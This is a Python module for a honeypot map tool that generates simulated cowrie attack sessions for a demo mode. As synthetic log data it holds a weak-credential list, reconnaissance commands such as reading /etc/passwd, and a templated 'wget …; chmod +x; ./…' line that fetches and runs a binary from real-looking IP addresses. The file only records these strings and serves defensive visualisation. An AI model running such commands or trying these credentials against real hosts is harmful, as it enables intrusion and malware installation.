"""demo source: a simulated honeynet, so a new install shows a living map at once.

`serve --demo` registers six demo sensors (names start with `demo-`, flagged `demo` in the
registry and on every event) on several continents and feeds cowrie-format records from
simulated attackers through the same pipeline as a real sensor: adapter, GeoIP, store, hub.
Attackers come from public address blocks of hosting providers and ISPs in many countries,
so GeoIP places them for real. Delivery: in-process, nothing to acknowledge.
"""

from __future__ import annotations

import asyncio
import hashlib
import ipaddress
import logging
import random
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import msgspec

from honeyatlas.enrichment.sensors import Sensor, SensorDirectory
from honeyatlas.errors import HoneyatlasError
from honeyatlas.pipeline import Ingest, RawRecord
from honeyatlas.tasks import cancel_and_wait

log = logging.getLogger(__name__)

DEMO_SENSORS: list[tuple[str, float, float, str]] = [
    ("demo-frankfurt", 50.11, 8.68, "Demo sensor, Frankfurt"),
    ("demo-virginia", 38.95, -77.45, "Demo sensor, Ashburn"),
    ("demo-singapore", 1.35, 103.82, "Demo sensor, Singapore"),
    ("demo-saopaulo", -23.55, -46.63, "Demo sensor, Sao Paulo"),
    ("demo-sydney", -33.87, 151.21, "Demo sensor, Sydney"),
    ("demo-johannesburg", -26.2, 28.05, "Demo sensor, Johannesburg"),
]

# Public blocks seen in real honeypot logs (hosting, cloud and broadband ISPs).
ATTACKER_BLOCKS = [
    "45.33.0.0/17", "104.248.0.0/16", "185.220.100.0/22", "5.188.206.0/24", "91.240.118.0/24",
    "118.25.0.0/16", "61.177.172.0/24", "218.92.0.0/16", "14.116.0.0/16", "1.55.0.0/16",
    "103.145.13.0/24", "117.211.0.0/16", "177.54.0.0/16", "186.96.0.0/16", "41.216.186.0/24",
    "197.232.0.0/16", "80.94.95.0/24", "194.165.16.0/24", "2.57.121.0/24", "125.124.0.0/16",
    "112.85.42.0/24", "159.89.0.0/16", "139.59.0.0/16", "36.110.0.0/16", "190.144.0.0/16",
]
CREDENTIALS = [
    ("root", "root"), ("root", "123456"), ("admin", "admin"), ("root", "password"), ("ubuntu", "ubuntu"),
    ("pi", "raspberry"), ("user", "user"), ("oracle", "oracle"), ("root", "1qaz2wsx"), ("test", "test"),
    ("support", "support"), ("root", "admin123"), ("postgres", "postgres"), ("git", "git"),
]
COMMANDS = [
    "uname -a", "cat /proc/cpuinfo | grep name | wc -l", "whoami", "cd /tmp; ls -la", "free -m",
    "cat /etc/passwd", "crontab -l", "echo -e '\\x41\\x42'", "nproc", "lscpu | grep Model",
]
DOWNLOAD_HOSTS = ["103.145.13.20", "45.95.147.10", "185.254.37.11", "194.38.20.199"]
ROAMING_ATTACKERS = 4
ROAMING_SHARE = 0.1  # of new sessions
CLIENTS = ["SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-PuTTY_Release_0.78", "SSH-2.0-OpenSSH_8.4p1"]


class DemoHoneynet:
    def __init__(
        self,
        *,
        pipeline: Ingest,
        registry: SensorDirectory,
        events_per_second: float,
        seed: int | None,
    ) -> None:
        self._pipeline = pipeline
        self._registry = registry
        self._rate = events_per_second
        self._random = random.Random(seed)
        self._sensors: list[Sensor] = []
        self._task: asyncio.Task[None] | None = None
        self._blocks = [ipaddress.ip_network(b) for b in ATTACKER_BLOCKS]
        self._roamers: list[str] = []

    async def start(self) -> None:
        self._sensors = [self._ensure_sensor(*spec) for spec in DEMO_SENSORS]
        self._task = asyncio.create_task(self._run(), name="demo-honeynet")

    async def stop(self) -> None:
        await cancel_and_wait(self._task)
        self._task = None

    def _ensure_sensor(self, name: str, lat: float, lon: float, label: str) -> Sensor:
        existing = self._registry.get(name)
        if existing is not None:
            return existing
        sensor, _token = self._registry.add(name, honeypot="cowrie", lat=lat, lon=lon, label=label, demo=True)
        return sensor

    async def _run(self) -> None:
        sessions: list[tuple[Sensor, Iterator[dict[str, Any]]]] = []
        tick = 0.25
        budget = 0.0
        index = 0
        while True:
            await asyncio.sleep(tick)
            budget += self._rate * tick
            batch: dict[str, list[RawRecord]] = {}
            by_name = {s.name: s for s in self._sensors}
            while budget >= 1:
                if not sessions or self._random.random() < 0.15:
                    sensor = self._random.choice(self._sensors)
                    sessions.append((sensor, self._session()))
                slot = self._random.randrange(len(sessions))
                sensor, records = sessions[slot]
                record = next(records, None)
                if record is None:
                    sessions.pop(slot)
                    continue
                raw = msgspec.json.encode(record)
                batch.setdefault(sensor.name, []).append(RawRecord(index, raw, record))
                index += 1
                budget -= 1
            for name, records_for_sensor in batch.items():
                try:
                    self._pipeline.admit("demo", len(records_for_sensor))
                    await self._pipeline.ingest(
                        source="demo", fmt="cowrie", sensor=by_name[name], records=records_for_sensor
                    )
                except HoneyatlasError as exc:  # a simulated batch may be lost; say so and go on
                    log.warning("demo batch of %d records not ingested: %s", len(records_for_sensor), exc)

    def _attacker(self) -> str:
        # A few roaming attackers come back to other sensors, so the demo shows multi-sensor
        # incidents next to the campaigns and epidemics its shared banners and downloads make.
        if len(self._roamers) < ROAMING_ATTACKERS or self._random.random() >= ROAMING_SHARE:
            block = self._random.choice(self._blocks)
            address = str(block[self._random.randrange(1, block.num_addresses - 1)])
            if len(self._roamers) < ROAMING_ATTACKERS:
                self._roamers.append(address)
            return address
        return self._random.choice(self._roamers)

    def _session(self) -> Iterator[dict[str, Any]]:
        rnd = self._random
        src = self._attacker()
        session = f"{rnd.getrandbits(48):012x}"
        port = rnd.choice([22, 22, 22, 23, 2222])
        protocol = "telnet" if port == 23 else "ssh"
        base = {"session": session, "src_ip": src, "src_port": rnd.randrange(1024, 65535),
                "dst_ip": "10.0.0.5", "dst_port": port, "protocol": protocol}

        def record(eventid: str, **fields: Any) -> dict[str, Any]:
            stamp = datetime.now(UTC).isoformat().replace("+00:00", "Z")
            return {**base, "eventid": f"cowrie.{eventid}", "timestamp": stamp, **fields}

        yield record("session.connect")
        if protocol == "ssh":
            yield record("client.version", version=rnd.choice(CLIENTS))
        attempts = rnd.randint(1, 6)
        logged_in = rnd.random() < 0.35
        for i in range(attempts):
            user, password = rnd.choice(CREDENTIALS)
            success = logged_in and i == attempts - 1
            yield record("login.success" if success else "login.failed", username=user, password=password)
        if logged_in:
            for command in rnd.sample(COMMANDS, rnd.randint(1, 4)):
                yield record("command.input", input=command)
            if rnd.random() < 0.4:
                host = rnd.choice(DOWNLOAD_HOSTS)
                name = rnd.choice(["x86", "bins.sh", "mips", "arm7", "k.sh"])
                url = f"http://{host}/{name}"
                digest = hashlib.sha256(url.encode()).hexdigest()
                yield record("command.input", input=f"wget {url}; chmod +x {name}; ./{name}")
                yield record("session.file_download", url=url, shasum=digest, outfile=f"var/lib/cowrie/downloads/{digest}")
        yield record("session.closed", duration_ms=rnd.randint(300, 30_000))
